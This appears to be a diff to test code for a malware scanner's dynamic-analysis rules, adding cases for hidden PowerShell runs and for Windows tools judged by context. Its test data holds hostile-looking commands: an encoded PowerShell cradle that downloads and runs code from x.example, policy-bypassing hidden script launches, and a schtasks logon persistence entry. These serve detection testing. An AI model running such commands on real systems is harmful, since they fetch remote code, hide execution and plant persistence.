@@ -58,6 +58,13 @@ CONTEXT_EVENTS = {
     "DYN-WINDOWS-PERSISTENCE-ENCODED": ("import", [("commands", _cmd(
         "powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")))],
                                         [("commands", _cmd("powershell", "-e", _ps_enc("Get-Date")))]),
+    "DYN-POWERSHELL-HIDDEN": ("import", [("commands", _cmd(
+        "powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File",
+        "C:\\Users\\x\\AppData\\Local\\Temp\\ab.ps1")), ("commands", _cmd("pwsh", "-w", "1", "-c", "x")),
+        ("commands", _cmd("powershell", "-ep", "bypass", "-c", "x"))],
+                              [("commands", _cmd("powershell", "-NoProfile", "-Command",
+                                                 "Get-ItemProperty HKCU:\\Software\\hidden -Name WindowStyle")),
+                               ("commands", _cmd("powershell", "-ExecutionPolicy", "RemoteSigned", "-File", "build.ps1"))]),
     "DYN-BAIT-SENT-TO-ARGUMENT": ("execute", [("network", {
         "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "hooks.example.com",
         "http": {"method": "POST", "target": "/", "host": "hooks.example.com", "headers": [],
@@ -248,3 +255,23 @@ def test_a_script_written_where_a_folder_was_is_not_a_folder():
     touched = ("files", {"path": path, "read": False, "write": True, "delete": False, "ops": ["chmod"]})
     v = judge(_with([mkdir, touched, chmod], "install"), suppressions=[])
     assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]
+
+
+def test_windows_tools_run_where_the_code_was_told_it_runs_on_windows_are_judged_by_what_they_do():
+    # in the windows world (dynamic/worlds.py) Windows code calls Windows' tools: `cmd /c ver`,
+    # a powershell query, are what such code does (the benign look-alike) ...
+    plain = [("commands", _cmd("cmd", "/c", "ver")),
+             ("commands", _cmd("powershell", "-NoProfile", "-Command", "(Get-Item .).FullName"))]
+    v = judge(_with(plain, "import", world="windows"), suppressions=[])
+    assert v["label"] == "benign", v["findings"]
+    # ... the same calls in the base world, where the code was told the truth (Linux), are not
+    assert {"DYN-WINDOWS-TOOL", "DYN-DOWNLOADER"} <= set(judge(_with(plain, "import"), suppressions=[])["rules_fired"])
+    # and what a tool is asked to do still counts in the windows world: hidden, encoded, persistent
+    bad = [("commands", _cmd("powershell.exe", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-File",
+                             "C:\\Temp\\ab.ps1")),
+           ("commands", _cmd("powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"))),
+           ("commands", _cmd("schtasks", "/create", "/tn", "U", "/tr", "C:\\u.exe", "/sc", "onlogon"))]
+    v = judge(_with(bad, "import", world="windows"), suppressions=[])
+    assert {"DYN-POWERSHELL-HIDDEN", "DYN-POWERSHELL-ENCODED", "DYN-WINDOWS-PERSISTENCE"} <= set(v["rules_fired"])
+    assert v["label"] == "malicious"
+    assert {f["evidence"].get("world") for f in v["findings"] if f["source"] == "dynamic"} == {"windows"}
